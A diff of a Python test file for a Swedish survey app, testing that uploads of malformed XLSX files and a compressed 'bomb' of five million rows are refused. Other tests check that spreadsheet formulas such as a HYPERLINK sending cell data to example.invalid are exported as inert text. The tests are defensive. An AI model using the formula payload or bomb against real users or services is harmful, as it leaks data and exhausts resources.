@@ -24,9 +24,9 @@ def test_import_then_export_then_import_reproduces_the_report(app, runner, tmp_p
     assert runner.invoke(args=["publish", "--year", "2023"]).exit_code == 0
     report_before = runner.invoke(args=["report", "--year", "2023", "--format", "csv"]).output
     exported = runner.invoke(args=["export", "answers"]).output
-    # Exports carry no date: a stored questionnaire has none (DESIGN.md principle 1).
+    # Swedish Excel: BOM and ';'; no date (anonymity)
     assert exported.splitlines()[0] == (
-        "year,questionnaire,insats,gender,q1,q2,q3,q4,q5,q6,q7,q8,q9,q10,q11"
+        "\ufeffyear;questionnaire;insats;gender;q1;q2;q3;q4;q5;q6;q7;q8;q9;q10;q11"
     )
     assert len(exported.splitlines()) == 119
     from tests.conftest import empty_database
@@ -81,7 +81,7 @@ def test_bad_answers_file_names_row_and_column_and_imports_nothing(app, runner, 
         "2023,okand,A,,2023-05-01,6,,,,,,,,,,\n"  # unknown questionnaire
         "2023,styrelse,,kvinna,2023-05-01,6,,,,,,,,,,\n"  # gender for board
         "20x3,personal,A,,2023-05-01,6,,,,,,,,,,\n"  # bad year
-        "2023,personal,A,,1.5.2023,6,,,,,,,,,,\n"  # an odd date: ignored like every date
+        "2023,personal,A,,1.5.2023,6,,,,,,,,,,\n"  # a date, ignored (no longer stored)
         "2023,styrelse,,,2023-05-01,6,,,,,,,,,,6\n"  # q11 not in styrelse
     )
     result = runner.invoke(args=["import", "answers", write(tmp_path, "bad.csv", text)])
@@ -196,3 +196,409 @@ def test_xlsx_answers_with_numbers_and_dates(app, runner, tmp_path):
     result = runner.invoke(args=["import", "answers", str(path)])
     assert result.exit_code == 0, result.output
     assert count_rows(app, "answer") == 11
+
+
+# --- broken and hostile XLSX: a message, never a 500 or a traceback ---------------
+
+import time  # noqa: E402
+import zipfile  # noqa: E402
+
+import pytest  # noqa: E402
+
+from tests.conftest import form_token  # noqa: E402
+
+CONTENT_TYPES = (
+    '<?xml version="1.0" encoding="UTF-8"?>'
+    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'  # noqa: E501
+    '<Default Extension="xml" ContentType="application/xml"/>'
+    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'  # noqa: E501
+    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'  # noqa: E501
+    "</Types>"
+)
+ROOT_RELS = (
+    '<?xml version="1.0" encoding="UTF-8"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'  # noqa: E501
+    "</Relationships>"
+)
+WORKBOOK = (
+    '<?xml version="1.0" encoding="UTF-8"?>'
+    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+    '<sheets><sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>'
+)
+WORKBOOK_RELS = (
+    '<?xml version="1.0" encoding="UTF-8"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'  # noqa: E501
+    "</Relationships>"
+)
+HISTORY_HEADER = (
+    "year,questionnaire,question,subgroup,n,negative,neutral,positive,clearly_positive,"
+    "response_rate"
+)
+
+
+def header_cells(columns: str) -> str:
+    cells = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in columns.split(","))
+    return f"<row>{cells}</row>"
+
+
+def xlsx_package(sheet_xml: bytes | str, *, with_workbook: bool = True) -> bytes:
+    """A workbook written by hand, so the sheet XML can be anything."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
+        package.writestr("[Content_Types].xml", CONTENT_TYPES)
+        package.writestr("_rels/.rels", ROOT_RELS)
+        if with_workbook:
+            package.writestr("xl/workbook.xml", WORKBOOK)
+            package.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
+        package.writestr("xl/worksheets/sheet1.xml", sheet_xml)
+    return out.getvalue()
+
+
+def sheet(rows: str, dimension: str | None = None) -> str:
+    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        f"{dim}<sheetData>{rows}</sheetData></worksheet>"
+    )
+
+
+def malformed_files() -> dict[str, bytes]:
+    good_row = (
+        "<row><c><v>2019</v></c>"
+        '<c t="inlineStr"><is><t>deltagare_avslut</t></is></c>'
+        "<c><v>1</v></c></row>"
+    )
+    return {
+        "not-a-zip": b"this is a plain text file, not a workbook at all\n" * 20,
+        "zip-without-workbook": xlsx_package(
+            sheet(header_cells(HISTORY_HEADER)), with_workbook=False
+        ),
+        "broken-sheet-xml": xlsx_package(
+            sheet(header_cells(HISTORY_HEADER) + good_row)[:-40] + "<row><c><v>1</c></row"
+        ),
+        "encrypted-ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
+        "huge-dimension": xlsx_package(
+            sheet(header_cells(HISTORY_HEADER), dimension="A1:XFD1048576")
+        ),
+    }
+
+
+@pytest.mark.parametrize("name", list(malformed_files()))
+def test_malformed_xlsx_on_the_history_upload_is_a_swedish_message(app, admin_client, name):
+    data = malformed_files()[name]
+    page = admin_client.get("/admin/importer")
+    response = admin_client.post(
+        "/admin/importer/historik",
+        data={"csrf_token": form_token(page.text), "file": (io.BytesIO(data), f"{name}.xlsx")},
+        content_type="multipart/form-data",
+        follow_redirects=True,
+    )
+    assert response.status_code == 200
+    assert "Ingenting har importerats." in response.text
+    assert "Excel" in response.text or "Bladet" in response.text or "skadad" in response.text
+    assert "Traceback" not in response.text
+    assert count_rows(app, "history_figure") == 0 and count_rows(app, "import_batch") == 0
+
+
+@pytest.mark.parametrize("name", list(malformed_files()))
+def test_malformed_xlsx_on_the_command_line_is_a_swedish_message(app, runner, tmp_path, name):
+    path = tmp_path / "bad.xlsx"
+    path.write_bytes(malformed_files()[name])
+    result = runner.invoke(args=["import", "answers", str(path)])
+    assert result.exit_code == 1
+    assert "Ingenting har importerats" in result.output
+    assert "Traceback" not in result.output
+    assert result.exception is None or isinstance(result.exception, SystemExit)
+    assert count_rows(app, "response") == 0
+
+
+def bomb(rows: int, *, declared: bool) -> bytes:
+    """A small file that unpacks to ``rows`` rows (identical rows compress ~1000:1)."""
+    body = header_cells(HISTORY_HEADER) + "<row><c><v>1</v></c></row>" * rows
+    return xlsx_package(sheet(body, dimension=f"A1:J{rows + 1}" if declared else None))
+
+
+@pytest.mark.parametrize("declared", [True, False])
+def test_a_320_kb_file_of_five_million_rows_is_refused_within_a_second(app, admin_client, declared):
+    data = bomb(5_000_000, declared=declared)
+    assert len(data) < 400_000
+    page = admin_client.get("/admin/importer")
+    started = time.perf_counter()
+    response = admin_client.post(
+        "/admin/importer/historik",
+        data={"csrf_token": form_token(page.text), "file": (io.BytesIO(data), "stor.xlsx")},
+        content_type="multipart/form-data",
+        follow_redirects=True,
+    )
+    elapsed = time.perf_counter() - started
+    assert elapsed < 1.0, elapsed
+    assert "för stort" in response.text or "fler än" in response.text
+    assert "Ingenting har importerats." in response.text
+    assert count_rows(app, "history_figure") == 0
+
+
+def test_export_to_a_missing_folder_is_a_message_not_a_traceback(runner):
+    result = runner.invoke(args=["export", "answers", "--output", "/missing/x.csv"])
+    assert result.exit_code == 1
+    assert "mappen /missing finns inte" in result.output
+    assert "Traceback" not in result.output and not isinstance(result.exception, OSError)
+
+
+# --- formula-safe exports that round-trip -----------------------------------------
+
+HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'
+
+
+def test_formulas_are_inert_in_csv_and_xlsx_and_round_trip(app, runner, tmp_path, database_url):
+    from tests.conftest import empty_database
+
+    rows = (
+        HEADER
+        + f'2024,personal,"{HOSTILE.replace(chr(34), chr(34) * 2)}",,,6,5,,,,,,,,,\n'
+        + "2024,personal,+46 Insats,,,5,5,,,,,,,,,\n"
+        + "2024,personal,@sum,,,4,,,,,,,,,,\n"
+        + "2024,personal,-minus,,,3,,,,,,,,,,\n"
+    )
+    assert runner.invoke(args=["import", "answers", write(tmp_path, "f.csv", rows)]).exit_code == 0
+    first = runner.invoke(args=["export", "answers"]).output
+    # every cell that a spreadsheet would run starts with an apostrophe
+    assert "\"'=HYPERLINK(" in first or "'=HYPERLINK(" in first
+    for line in first.splitlines()[1:]:
+        insats = next(csv_cells(line))
+        assert insats.startswith("'") and insats[1] in "=+-@"
+    xlsx = tmp_path / "f.xlsx"
+    assert (
+        runner.invoke(
+            args=["export", "answers", "--format", "xlsx", "--output", str(xlsx)]
+        ).exit_code
+        == 0
+    )
+    cells = [c for row in load_workbook(xlsx).active.iter_rows() for c in row if c.value == HOSTILE]
+    assert cells and all(c.data_type == "s" for c in cells)  # text, never a live formula
+    # export → import → export is identical, through CSV and through XLSX
+    for source in (write(tmp_path, "again.csv", first), str(xlsx)):
+        empty_database(database_url)
+        result = runner.invoke(args=["import", "answers", source])
+        assert result.exit_code == 0, result.output
+        assert runner.invoke(args=["export", "answers"]).output == first
+
+
+def csv_cells(line: str):
+    import csv as _csv
+
+    yield _csv.reader([line], delimiter=";").__next__()[2]
+
+
+# --- Swedish labels, templates, list of imports ------------------------------------
+
+
+def test_answers_accept_swedish_labels_and_ignore_a_date_column(app, runner, tmp_path):
+    text = HEADER + (
+        "2024,Deltagare avslut,A,Kvinnor,2024-05-01,6,5,,,,,,1,6,6,\n"
+        "2024,deltagare – avslut,A,män,,6,,,,,,,,,,\n"
+        "2024,PERSONAL,A,,,5,,,,,,,,,,\n"
+    )
+    result = runner.invoke(args=["import", "answers", write(tmp_path, "sv.csv", text)])
+    assert result.exit_code == 0, result.output
+    with app.app_context():
+        from sqlalchemy import text as sql
+
+        from surveys import db
+
+        stored = (
+            db.session()
+            .execute(
+                sql(
+                    "SELECT questionnaire_key, gender FROM response ORDER BY questionnaire_key, gender"  # noqa: E501
+                )
+            )
+            .all()
+        )
+    assert [tuple(r) for r in stored] == [
+        ("deltagare_avslut", "kvinna"),
+        ("deltagare_avslut", "man"),
+        ("personal", None),
+    ]
+    bad = HEADER + "2024,Deltagare mitten,A,kvinna,,6,,,,,,,,,,\n2024,personal,A,,,x,,,,,,,,,,\n"
+    result = runner.invoke(args=["import", "answers", write(tmp_path, "bad.csv", bad)])
+    assert "Rad 2, kolumn questionnaire: Okänd enkät 'Deltagare mitten'" in result.output
+    assert "Rad 3, kolumn q1" in result.output
+    assert count_rows(app, "response") == 3
+
+
+def test_history_accepts_labels_decimal_commas_and_percent_signs(app, runner, tmp_path):
+    from surveys.services.figures import history_rows
+
+    text = (
+        HISTORY_HEADER.replace(",", ";")
+        + "\n2019;Deltagare avslut;1;Samtliga;120;4;6;90;70;95\n"
+        + "2019;deltagare – avslut;1;män;58;3,5;6;89,5 %;68;94%\n"
+        + "2019;Personal;2;samtliga;30;2,4;0;97,6;50;100\n"
+    )
+    result = runner.invoke(args=["import", "history", write(tmp_path, "h.csv", text)])
+    assert result.exit_code == 0, result.output
+    with app.app_context():
+        from surveys import db
+
+        rows = {(r["questionnaire"], r["subgroup"]): r for r in history_rows(db.session())}
+    assert rows[("deltagare_avslut", "man")]["negative"] == 4  # 3,5 rounded half up
+    assert rows[("deltagare_avslut", "man")]["positive"] == 90
+    assert rows[("deltagare_avslut", "man")]["response_rate"] == 94
+    assert rows[("personal", "samtliga")]["negative"] == 2
+    bad = (
+        HISTORY_HEADER
+        + "\n2019,Deltagare avslut,1,flickor,10,1,1,1,1,1\n2019,Personal,1,samtliga,10,1,1,12;5,1,1\n"  # noqa: E501
+    )
+    result = runner.invoke(args=["import", "history", write(tmp_path, "b.csv", bad)])
+    assert "Rad 2, kolumn subgroup: 'flickor'" in result.output
+    assert "(samtliga, kvinnor, män)" in result.output
+
+
+@pytest.mark.parametrize("kind", ["historik", "riket"])
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_templates_download_and_import_as_they_are(app, admin_client, kind, fmt):
+    template = admin_client.get(f"/admin/importer/mall/{kind}.{fmt}")
+    assert template.status_code == 200
+    if fmt == "csv":
+        assert template.data.startswith("\ufeffyear;questionnaire".encode())
+    else:
+        header = [
+            c.value for c in next(load_workbook(io.BytesIO(template.data)).active.iter_rows())
+        ]
+        assert header[:4] == ["year", "questionnaire", "question", "subgroup"]
+    page = admin_client.get("/admin/importer")
+    response = admin_client.post(
+        f"/admin/importer/{kind}",
+        data={
+            "csrf_token": form_token(page.text),
+            "file": (io.BytesIO(template.data), f"mall.{fmt}"),
+        },
+        content_type="multipart/form-data",
+        follow_redirects=True,
+    )
+    assert "rader importerade" in response.text, response.text
+    table = "history_figure" if kind == "historik" else "national_figure"
+    assert count_rows(app, table) >= 2
+
+
+def test_answers_template_imports_on_the_command_line(app, admin_client, runner, tmp_path):
+    for fmt in ("csv", "xlsx"):
+        path = tmp_path / f"mall.{fmt}"
+        path.write_bytes(admin_client.get(f"/admin/importer/mall/svar.{fmt}").data)
+        result = runner.invoke(args=["import", "answers", str(path)])
+        assert result.exit_code == 0, result.output
+    assert count_rows(app, "response") == 4
+
+
+def test_imports_are_listed_and_a_figures_batch_can_be_removed(app, admin_client, runner, tmp_path):
+    from tests.conftest import table_rows
+
+    runner.invoke(args=["import", "answers", write(tmp_path, "svar.csv", seedrows.csv_text())])
+    page = admin_client.get("/admin/importer")
+    history = HISTORY_HEADER + "\n2019,Deltagare avslut,1,Samtliga,120,4,6,90,70,95\n"
+    admin_client.post(
+        "/admin/importer/historik",
+        data={
+            "csrf_token": form_token(page.text),
+            "file": (io.BytesIO(history.encode()), "h2019.csv"),
+        },
+        content_type="multipart/form-data",
+    )
+    page = admin_client.get("/admin/importer")
+    rows = table_rows(page.text)
+    assert rows[0][:2] == ("Vad", "Fil")
+    listed = {r[1]: r for r in rows[1:]}
+    assert listed["h2019.csv"][0] == "Historik från tidigare årsrapporter"
+    assert (
+        listed["h2019.csv"][2] == "1"
+        and listed["h2019.csv"][4] == "administratör-0@example.invalid"
+    )
+    assert listed["svar.csv"][2] == "118" and listed["svar.csv"][4] == "kommandoraden"
+    assert listed["svar.csv"][5] == "Kan inte tas bort"
+    # answers are never linked to a batch
+    with app.app_context():
+        from surveys.models import Response
+
+        assert "batch_id" not in Response.__table__.c
+    import re
+
+    action = re.search(r'action="(/admin/importer/[0-9a-f]{32}/ta-bort)"', page.text).group(1)
+    response = admin_client.post(
+        action, data={"csrf_token": form_token(page.text)}, follow_redirects=True
+    )
+    assert "är borttagen" in response.text
+    assert count_rows(app, "history_figure") == 0 and count_rows(app, "response") == 118
+    log = admin_client.get("/admin/logg").text
+    assert "import.ta_bort.history" in log and "h2019.csv" in log
+    assert (
+        admin_client.post(
+            action, data={"csrf_token": form_token(page.text)}, follow_redirects=True
+        ).status_code
+        == 200
+    )
+
+
+def test_single_use_links_csv_opens_in_columns_in_swedish_excel(app, admin_client, make_round):
+    r = make_round("deltagare_avslut", mode="single_use")
+    page = admin_client.get(f"/personal/omgang/{r.id}")
+    response = admin_client.post(
+        f"/personal/omgang/{r.id}/lankar.csv",
+        data={"csrf_token": form_token(page.text), "count": "3"},
+    )
+    lines = response.data.decode("utf-8").splitlines()
+    assert lines[0] == "\ufeffnr;lank"
+    assert len(lines) == 4 and all(line.split(";")[1].startswith("http") for line in lines[1:])
+
+
+def test_streaming_import_is_all_or_nothing_across_chunks(app, tmp_path):
+    from surveys import db
+    from surveys.services.catalogue import instrument_from_db
+    from surveys.services.files import import_answers
+    from surveys.services.tables import FileError
+
+    good = "2024,personal,Insats {i},,5,5,,,,,,,,,\n"
+    text = "year,questionnaire,insats,gender," + ",".join(f"q{i}" for i in range(1, 12)) + "\n"
+    text += "".join(good.format(i=i) for i in range(60)) + "2024,personal,Sist,,9,,,,,,,,,,\n"
+    path = tmp_path / "svar.csv"
+    path.write_text(text, encoding="utf-8")
+    with app.app_context():
+        session = db.session()
+        with pytest.raises(FileError) as refused:
+            import_answers(
+                session, instrument_from_db(session), path=path, filename="svar.csv", chunk=10
+            )
+    assert refused.value.errors == [
+        "Rad 62, kolumn q1: Fråga 1: '9' är inget giltigt svar (tillåtna koder: 0, 1, 2, 3, 4, 5, 6)."  # noqa: E501
+    ]
+    # six chunks had been inserted before the bad row: all rolled back, insatser too
+    assert count_rows(app, "response") == 0 and count_rows(app, "answer") == 0
+    assert count_rows(app, "intervention") == 0
+
+
+def test_import_memory_does_not_grow_with_the_file(app, tmp_path):
+    import tracemalloc
+
+    from surveys import db
+    from surveys.services.catalogue import instrument_from_db
+    from surveys.services.files import import_answers
+
+    row = "2024,Deltagare avslut,Insats A,kvinna,6,5,4,,6,5,4,1,6,6,\n"
+    header = "year,questionnaire,insats,gender," + ",".join(f"q{i}" for i in range(1, 12)) + "\n"
+    peaks = []
+    for size in (1_000, 8_000):
+        path = tmp_path / f"svar-{size}.csv"
+        path.write_text(header + row * size, encoding="utf-8")
+        with app.app_context():
+            session = db.session()
+            instrument = instrument_from_db(session)
+            tracemalloc.start()
+            count = import_answers(session, instrument, path=path, filename=path.name, chunk=500)
+            peaks.append(tracemalloc.get_traced_memory()[1])
+            tracemalloc.stop()
+        assert count == size
+    assert peaks[1] < peaks[0] * 1.5, peaks  # 8× the rows, not 8× the memory
